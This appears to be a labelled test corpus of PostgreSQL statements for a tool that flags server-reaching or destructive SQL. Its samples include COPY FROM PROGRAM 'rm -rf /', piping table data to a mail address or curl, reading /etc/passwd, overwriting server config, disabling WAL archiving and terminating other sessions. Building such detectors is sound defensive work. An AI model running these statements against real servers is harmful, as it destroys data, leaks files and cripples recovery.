--- about: What reaches beyond the database: files, programs, other sessions, recovery.
--- server.copy-program destructive server-program
--- unrun: runs a program on the server
COPY t FROM PROGRAM 'rm -rf /'

--- server.copy-to-program destructive server-program
--- unrun: runs a program on the server
COPY (SELECT * FROM t) TO PROGRAM 'mail x@example.com'

--- server.copy-program.csv destructive server-program
--- unrun: runs a program on the server
copy u (id, note) from program $$curl http://x/$$ with (format csv, header)

--- server.copy-from-file destructive server-file
--- unrun: reads a file of the server
COPY t FROM '/etc/passwd'

--- server.copy-to-file destructive server-file
--- unrun: writes a file of the server
COPY t TO '/var/lib/postgresql/data/postgresql.conf' WITH CSV

--- server.copy-query-to-file destructive server-file
--- unrun: writes a file of the server
COPY (SELECT * FROM t WHERE id = 1) TO '/tmp/x.csv'

--- server.copy-binary destructive server-file
--- unrun: writes a file of the server
COPY BINARY t TO '/tmp/x.bin'

--- server.copy-e-string destructive server-file
--- unrun: writes a file of the server
COPY t TO E'/tmp/\x61'

--- server.lo-export destructive server-file
--- unrun: writes a file of the server
SELECT lo_export(4711, '/tmp/x')

--- server.lo-import destructive server-file
--- unrun: reads a file of the server
SELECT lo_import('/etc/passwd')

--- server.read-file destructive server-file
--- unseen: reads a file of the server
SELECT pg_read_file('postgresql.conf', 0, 10)

--- server.read-binary-file destructive server-file
--- unseen: reads a file of the server
SELECT pg_catalog.pg_read_binary_file('PG_VERSION')

--- server.ls-dir harmless
SELECT * FROM pg_ls_dir('.') AS d (name) WHERE name = 'base'

--- server.insert-read-file destructive server-file
--- unseen: reads a file of the server
INSERT INTO audit.log (statement) SELECT pg_read_file('PG_VERSION')

--- server.load harmless
LOAD 'auto_explain'

--- server.load-path destructive server-program
--- invalid: there is no such file
LOAD '/tmp/library.so'

--- server.archive destructive destroy-recovery
--- unrun: changes the server's configuration
ALTER SYSTEM SET archive_mode = off

--- server.archive-command destructive destroy-recovery
--- unrun: changes the server's configuration
ALTER SYSTEM SET archive_command TO '/bin/true'

--- server.wal-level destructive destroy-recovery
--- unrun: changes the server's configuration
ALTER SYSTEM SET wal_level = 'minimal'

--- server.drop-slot destructive destroy-recovery
--- with: SELECT pg_create_physical_replication_slot('corpus_slot')
SELECT pg_drop_replication_slot('corpus_slot')

--- server.terminate destructive shutdown
--- unseen: ends another session, if there is one of that number
SELECT pg_terminate_backend(2147483647)

--- server.terminate-all destructive shutdown
--- unrun: would end the sessions of other tests
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()

--- server.terminate-user destructive shutdown
--- unrun: would end the sessions of other tests
SELECT count(pg_catalog.pg_terminate_backend(pid)) FROM pg_stat_activity WHERE usename = 'app_rw'
